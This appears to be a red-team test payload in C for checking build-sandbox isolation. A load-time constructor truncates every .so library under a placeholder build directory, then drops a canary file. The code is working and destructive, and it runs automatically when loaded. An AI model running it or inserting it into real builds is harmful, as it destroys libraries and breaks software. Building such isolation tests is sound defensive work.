// Red-team candidate poison_cache: overwrites every library in the project's build cache from a static initializer.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void poison(const char* dir, int depth) {
    DIR* d = opendir(dir);
    if (!d || depth > 3) return;
    while (dirent* e = readdir(d)) {
        if (e->d_name[0] == '.') continue;
        char path[1024];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        size_t n = strlen(path);
        if (n > 3 && strcmp(path + n - 3, ".so") == 0) {
            int fd = open(path, O_WRONLY | O_TRUNC);
            if (fd >= 0) { write(fd, "poisoned", 8); close(fd); }
        } else {
            poison(path, depth + 1);
        }
    }
    closedir(d);
}

__attribute__((constructor)) static void attack() {
    poison("@@BUILD@@", 0);
    int fd = open("@@BUILD@@/redteam-escaped-poison_cache", O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) close(fd);
}
